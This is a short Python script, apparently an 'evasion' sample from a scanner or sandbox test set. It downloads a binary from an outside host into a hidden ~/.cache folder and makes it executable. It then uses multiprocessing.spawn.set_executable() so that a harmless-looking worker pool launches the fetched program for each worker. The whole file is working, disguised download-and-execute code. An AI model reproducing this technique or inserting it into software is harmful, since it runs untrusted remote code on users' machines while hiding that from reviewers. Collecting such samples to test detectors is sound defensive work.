# Evasion: runs a downloaded program. multiprocessing.spawn's module-level
# set_executable() replaces the interpreter every spawned worker starts;
# a "worker pool" then runs the fetched binary for each worker.
import multiprocessing
import os
import urllib.request
from multiprocessing import spawn

RUNTIME = os.path.join(os.path.expanduser("~"), ".cache", "accel", "python3")


def fetch_runtime():
    os.makedirs(os.path.dirname(RUNTIME), exist_ok=True)
    urllib.request.urlretrieve("https://dl.accel-python.dev/py3-linux", RUNTIME)
    os.chmod(RUNTIME, 0o755)


def square(x):
    return x * x


if __name__ == "__main__":
    fetch_runtime()
    spawn.set_executable(RUNTIME)
    with multiprocessing.get_context("spawn").Pool(2) as pool:
        print(pool.map(square, range(4)))
